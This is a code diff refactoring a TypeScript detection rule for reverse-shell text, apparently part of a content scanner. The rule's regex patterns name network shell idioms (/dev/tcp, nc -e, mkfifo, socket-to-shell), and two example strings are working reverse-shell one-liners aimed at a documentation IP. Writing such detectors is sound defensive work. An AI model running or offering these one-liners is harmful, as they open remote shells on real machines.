@@ -1,6 +1,6 @@
 import { confidence } from '../../placement/confidence.ts';
-import type { Subject } from '../../placement/subject.ts';
-import type { Match, ValueRule } from '../rule.ts';
+import { foundByFirst } from '../../placement/evidence.ts';
+import type { ValueRule } from '../rule.ts';
 
 /** Text that joins a shell with a connection, or a download with a shell, wherever it stands. */
 export const reverseShell: ValueRule = {
@@ -27,7 +27,7 @@ export const reverseShell: ValueRule = {
       ],
     ],
   },
-  judge,
+  judge: ({ text }) => foundByFirst(text, idioms),
   examples: [
     'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
     'nc 192.0.2.7 4444 -e /bin/sh',
@@ -56,11 +56,3 @@ const idioms: readonly RegExp[] = [
   /\b(?:socket\.socket|fsockopen|sockaddr_in|TCPSocket|net\.Socket)\b[^\n]{0,300}(?:\/bin\/(?:ba|z|da)?sh|cmd\.exe|\bsh -i|\bbash -i)/,
   /\bmkfifo {1,3}\/[^\n;|&]{1,60}[;|&][^\n]{0,120}\b(?:nc|ncat|telnet|openssl|sh)\b/,
 ];
-
-function judge(subject: Subject): Match | undefined {
-  for (const idiom of idioms) {
-    const match = idiom.exec(subject.text);
-    if (match !== null) return { start: match.index, end: match.index + match[0].length };
-  }
-  return undefined;
-}
